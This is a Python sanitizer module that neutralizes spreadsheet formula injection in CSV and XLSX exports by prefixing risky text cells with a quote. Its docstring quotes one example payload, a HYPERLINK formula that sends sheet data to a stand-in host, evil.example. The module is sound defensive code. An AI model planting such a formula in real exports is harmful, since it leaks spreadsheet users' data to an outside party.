"""Spreadsheet cells that are data, never formulas (CSV and XLSX alike).

Text written to a CSV or XLSX can reach it from the public (a store name, an inquiry's category) and
Excel runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage return, the
same) as a formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the sheet away. OWASP's
practice is to prefix such text with a single quote, which spreadsheets read as "this is text".
Numbers (negative ones included) stay numbers: only `str` values are ever touched.

The full-width forms `＝`, `＋`, `－`, `＠` are neutralized too, as a precaution: Japanese users type
them with the IME, and a spreadsheet that folds them to ASCII on import or edit would run them.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_text(value: Any) -> Any:
    """`value` as a cell that a spreadsheet shows as written; anything but text passes unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells for `csv.writer.writerow` or openpyxl's `append`, every text cell neutralized."""
    return [safe_text(value) for value in values]
